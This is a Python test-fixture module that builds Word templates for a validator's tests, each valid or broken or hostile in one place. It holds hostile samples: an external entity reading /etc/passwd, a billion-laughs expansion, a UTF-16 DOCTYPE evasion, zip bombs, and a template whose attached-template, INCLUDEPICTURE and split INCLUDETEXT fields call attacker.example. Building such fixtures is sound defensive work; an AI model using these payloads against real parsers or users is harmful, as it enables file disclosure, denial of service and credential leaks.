"""Word templates for the tests, made from python-docx's own: valid, broken or hostile in one place each."""

from __future__ import annotations

import io
import os
import re
import zipfile

from werkvorm_dsl.output import word_template

SETTINGS_RELS = "word/_rels/settings.xml.rels"
REMOTE = "file://attacker.example/share/t.dotx"
ENTITY_FILE = '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY a "hahahahahahahahahaha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    + "]>"
)


def default_parts() -> dict[str, bytes]:
    import docx

    path = os.path.join(os.path.dirname(docx.__file__), "templates", "default.docx")
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def as_template(parts: dict[str, bytes]) -> dict[str, bytes]:
    """The parts as Word saves a .dotx: only the main part's content type differs."""
    changed = dict(parts)
    changed["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        word_template.DOCUMENT_TYPE, word_template.TEMPLATE_TYPE
    )
    return changed


def zipped(parts: dict[str, bytes], extra: list[tuple[str, bytes]] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def with_part(name: str, data: bytes) -> bytes:
    return zipped({**as_template(default_parts()), name: data})


def with_doctype(name: str, doctype: str, body: str = "") -> bytes:
    """The part `name` with a DTD before its root (and `body` as text of a new first element)."""
    parts = as_template(default_parts())
    text = parts[name].decode("utf-8")
    declaration_end = text.index("?>") + 2
    text = text[:declaration_end] + doctype + text[declaration_end:]
    if body:
        text = re.sub(r"(<w:body>)", rf"\1<w:p><w:r><w:t>{body}</w:t></w:r></w:p>", text, count=1)
    parts[name] = text.encode("utf-8")
    return zipped(parts)


def in_utf16(name: str, doctype: str) -> bytes:
    """The part with a DTD, stored as UTF-16: a look for '<!DOCTYPE' in its bytes does not see it."""
    parts = as_template(default_parts())
    text = parts[name].decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'")
    declaration_end = text.index("?>") + 2
    parts[name] = (text[:declaration_end] + doctype + text[declaration_end:]).encode("utf-16")
    return zipped(parts)


def without(name: str) -> bytes:
    parts = as_template(default_parts())
    del parts[name]
    return zipped(parts)


def many_entries() -> bytes:
    extra = [(f"customXml/n{i}.bin", b"x") for i in range(word_template.MOST_ENTRIES + 1)]
    return zipped(as_template(default_parts()), extra)


def duplicate_entry() -> bytes:
    import warnings

    parts = as_template(default_parts())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        return zipped(parts, [("word/styles.xml", b"<other/>")])


def macro_template() -> bytes:
    parts = as_template(default_parts())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        word_template.TEMPLATE_TYPE, b"ms-word.template.macroEnabledTemplate.main+xml"
    )
    return zipped(parts)


def valid_template() -> bytes:
    return zipped(as_template(default_parts()))


# The class: every way a template can be broken or hostile to the computer, with what the one
# line must say. Each case is built from the real default template, changed in one place.
REFUSED = {
    "truncated": (lambda: valid_template()[:5000], "beschadigd of onvolledig"),
    "not a zip after its signature": (lambda: b"PK\x03\x04" + b"\x00" * 200, "beschadigd of onvolledig"),
    "no content types": (lambda: without("[Content_Types].xml"), "[Content_Types].xml ontbreekt"),
    "no package relationships": (lambda: without("_rels/.rels"), "_rels/.rels ontbreekt"),
    "no main document": (lambda: without("word/document.xml"), "niet als document openen"),
    "external entity": (lambda: with_doctype("word/styles.xml", ENTITY_FILE), "XML-afkortingen"),
    "external entity in UTF-16": (lambda: in_utf16("word/styles.xml", ENTITY_FILE), "XML-afkortingen"),
    "entity expansion": (lambda: with_doctype("word/document.xml", LAUGHS, "&i;"), "XML-afkortingen"),
    "a part that is not XML": (lambda: with_part("word/settings.xml", b"<w:settings"), "geen goed XML"),
    "unpacks past the limit": (
        lambda: with_part("word/media/bom.bin", b"\0" * (word_template.MOST_UNPACKED + 1)),
        "uitgepakt groter dan 24 MB",
    ),
    "XML past its limit": (
        lambda: with_part("customXml/groot.xml", b"<a>" + b" " * word_template.MOST_XML + b"</a>"),
        "uitgepakt groter dan 6 MB",
    ),
    "XML nested 100,000 deep": (
        lambda: with_part("customXml/diep.xml", b"<a>" * 100_000 + b"</a>" * 100_000),
        "geen goed XML",
    ),
    "too many entries": (many_entries, "meer dan 400 onderdelen"),
    "an entry twice": (duplicate_entry, "twee keer"),
    "macros": (macro_template, "macro's"),
}


def reaching_out_template() -> bytes:
    """A template with every remote technique the issue names: an attached template with an
    external target, an external image and hyperlink in a footer, and fields that fetch."""
    parts = as_template(default_parts())
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1
    ).encode()
    parts[SETTINGS_RELS] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{word_template.ATTACHED_TEMPLATE}" Target="{REMOTE}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    parts["word/footer1.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {w} {r}><w:p>'
        '<w:hyperlink r:id="rIdL"><w:r><w:t>intranet</w:t></w:r></w:hyperlink>'
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"http://attacker.example/p.png\" \\d '><w:r><w:t>x</w:t></w:r>"
        "</w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCL</w:instrText></w:r>'
        '<w:r><w:instrText>UDETEXT "\\\\\\\\attacker.example\\\\s\\\\a.docx"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>y</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p></w:ftr>"
    ).encode()
    parts["word/_rels/footer1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        b' Target="http://attacker.example/track" TargetMode="External"/>'
        b"</Relationships>"
    )
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footer"'
        ' Target="footer1.xml"/></Relationships>',
    ).encode()
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.footer+xml"/></Types>',
    ).encode()
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = document.replace(
        '<w:pgSz w:w="12240"', '<w:footerReference w:type="default" r:id="rIdF"/><w:pgSz w:w="12240"'
    ).encode()
    return zipped(parts)
